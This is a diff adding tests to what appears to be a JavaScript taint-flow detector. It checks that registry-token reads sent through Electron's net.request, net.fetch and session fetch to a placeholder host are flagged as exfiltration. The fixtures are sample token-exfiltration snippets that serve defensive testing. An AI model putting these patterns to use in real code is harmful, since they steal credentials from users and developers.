@@ -74,6 +74,17 @@ describe("modules reached through the loader's other doors", () => {
   });
 });
 
+describe("Electron's main-process HTTP client", () => {
+  it.each([
+    ["net.request(options) then write()", `const { net } = require('electron'); const r = net.request({ method: 'POST', url: 'https://t.example.invalid/x' }); r.write(${READ}); r.end();`],
+    ["net.request(url).end(data)", `const electron = require('electron'); electron.net.request('https://t.example.invalid/x').end(${READ});`],
+    ["net.fetch(url, init)", `const { net } = require('electron'); net.fetch('https://t.example.invalid/x', { method: 'POST', body: ${READ} });`],
+    ["session.defaultSession.fetch", `const { session } = require('electron'); session.defaultSession.fetch('https://t.example.invalid/x', { method: 'POST', body: ${READ} });`],
+  ])("%s", async (_name, code) => {
+    expect(await flowsOf(code)).toEqual(["registry-token -> http https://t.example.invalid/x (import)"]);
+  });
+});
+
 describe("data carried by events, lines and URLs", () => {
   it("emit() reaches the listeners registered with on()", async () => {
     const flows = await flowsOf(`const E = require('events'); const e = new E();\ne.on('d', (x) => https.request('https://t.example.invalid/x').end(x));\ne.emit('d', ${READ});`);
